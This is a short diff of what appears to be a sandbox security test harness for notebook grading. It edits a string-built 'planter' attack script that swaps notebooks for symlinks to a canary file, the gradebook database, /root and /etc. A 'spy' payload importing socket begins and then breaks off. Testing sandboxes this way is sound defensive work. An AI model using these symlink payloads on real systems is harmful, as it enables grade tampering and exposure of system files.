@@ -142,12 +142,18 @@ def _attacks(places: dict[str, str], port: int) -> dict[str, str]:
     p = {k: repr(v) for k, v in places.items()}
     return {
         "planter": f"""import os, glob
+def plant(target, name):
+    try:
+        if os.path.lexists(name):
+            os.remove(name)
+        os.symlink(target, name)
+    except OSError as error:
+        print(name, error)
 for name in glob.glob('*.ipynb'):
-    os.remove(name)
-    os.symlink({p['canary']}, name)
+    plant({p['canary']}, name)
 for i, target in enumerate([{p['canary']}, {p['gradebook']}, '/dev/null', {p['canary_dir']}, '/root', '/etc']):
-    os.symlink(target, f'link{{i}}')
-os.symlink({p['gradebook']}, 'gradebook.db')
+    plant(target, f'link{{i}}')
+plant({p['gradebook']}, 'gradebook.db')
 """,
         "spy": f"""import glob, os, socket
 found = []
